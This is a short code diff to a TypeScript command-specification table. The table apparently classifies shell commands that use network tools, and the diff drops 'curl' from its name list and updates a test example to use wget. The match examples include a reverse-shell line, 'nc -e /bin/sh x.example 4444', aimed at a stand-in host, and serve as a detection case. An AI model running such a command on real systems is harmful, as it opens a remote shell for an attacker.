@@ -151,7 +151,6 @@ export const SYSTEM: readonly CommandSpec[] = [
   },
   {
     names: [
-      "curl",
       "wget",
       "nc",
       "ncat",
@@ -181,7 +180,7 @@ export const SYSTEM: readonly CommandSpec[] = [
     syntax: "words",
     operands: { rest: "text" },
     anyWords: true,
-    match: ["curl https://x.example", "ssh localhost ls", "nc -e /bin/sh x.example 4444"],
+    match: ["wget https://x.example", "ssh localhost ls", "nc -e /bin/sh x.example 4444"],
     notMatch: ["echo curl", "which ssh"],
   },
   {
